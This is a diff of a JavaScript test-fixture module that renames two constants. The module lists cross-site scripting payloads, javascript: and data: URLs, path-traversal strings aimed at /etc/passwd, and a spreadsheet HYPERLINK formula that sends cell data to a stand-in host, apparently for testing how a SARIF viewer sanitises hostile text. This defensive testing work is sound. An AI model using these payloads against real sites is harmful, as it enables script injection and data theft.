@@ -1,41 +1,41 @@
 /** Nothing is there; a page that asks for it has been tricked. */
 export const HOSTILE_HOST = 'hostile.invalid';
 
-const run = 'globalThis.hostileCodeRan=true';
-const beacon = `https://${HOSTILE_HOST}`;
+const RUN = 'globalThis.hostileCodeRan=true';
+const BEACON = `https://${HOSTILE_HOST}`;
 
 /** Texts that run code or call home wherever they are taken for markup. */
 export const payloads = [
-  `<script>${run}</script>`,
-  `<img src=x onerror="${run}">`,
-  `<img src="${beacon}/pixel.png">`,
-  `"><svg onload="${run}">`,
-  `'><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
-  `<iframe src="javascript:parent.${run}"></iframe>`,
-  `<link rel=stylesheet href="${beacon}/x.css">`,
-  `<style>@import url(${beacon}/y.css);</style>`,
-  `<body onload="${run}"><input autofocus onfocus="${run}">`,
-  `<details open ontoggle="${run}">`,
-  `<a href="javascript:${run}">click</a>`,
-  `[click](javascript:${run}) ![pixel](${beacon}/md.png)`,
-  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
-  `{{constructor.constructor('${run}')()}} \${${run}}`,
+  `<script>${RUN}</script>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="${BEACON}/pixel.png">`,
+  `"><svg onload="${RUN}">`,
+  `'><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${RUN}"></iframe>`,
+  `<link rel=stylesheet href="${BEACON}/x.css">`,
+  `<style>@import url(${BEACON}/y.css);</style>`,
+  `<body onload="${RUN}"><input autofocus onfocus="${RUN}">`,
+  `<details open ontoggle="${RUN}">`,
+  `<a href="javascript:${RUN}">click</a>`,
+  `[click](javascript:${RUN}) ![pixel](${BEACON}/md.png)`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
+  `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
   `\u202egnp.exe\u202c \u2066hidden\u2069 \u0000\u001b[31mred \ud800`,
-  `=HYPERLINK("${beacon}/?x="&A1,"click") @SUM(1) +1 -1`,
+  `=HYPERLINK("${BEACON}/?x="&A1,"click") @SUM(1) +1 -1`,
 ];
 
 const urls = [
-  `javascript:${run}`,
-  `JaVaScRiPt:${run}//https://example.com`,
-  `\u0001javascript:${run}`,
-  `data:text/html,<script>${run}</script>`,
-  `vbscript:${run}`,
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}//https://example.com`,
+  `\u0001javascript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `vbscript:${RUN}`,
   `//${HOSTILE_HOST}/x`,
   'file:///etc/passwd',
   'https://user:password@example.com/',
 ];
 
-const paths = ['', '/etc/passwd', '../../etc/passwd', `javascript:${run}`];
+const paths = ['', '/etc/passwd', '../../etc/passwd', `javascript:${RUN}`];
 const lines = [2 ** 31, -1, 0, 1.5, '7', null];
 
 /** A file that is valid SARIF 2.1.0 with something hostile in every text: one run for each payload. */
